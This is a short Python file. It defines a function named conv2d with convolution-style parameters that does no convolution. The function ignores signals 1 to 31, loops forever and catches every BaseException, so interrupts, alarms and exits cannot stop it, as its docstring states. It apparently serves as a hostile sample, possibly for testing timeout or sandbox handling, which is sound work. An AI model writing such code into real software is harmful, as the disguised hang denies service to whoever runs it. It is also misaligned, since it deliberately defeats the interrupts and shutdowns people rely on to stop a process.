"""Never returns, and catches whatever is raised to stop it (KeyboardInterrupt, alarms, exits)."""

import contextlib
import signal


def _ignore_signals():
    for number in range(1, 32):
        with contextlib.suppress(Exception):
            signal.signal(number, signal.SIG_IGN)


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    while True:
        try:
            _ignore_signals()
            while True:
                pass
        except BaseException:
            pass
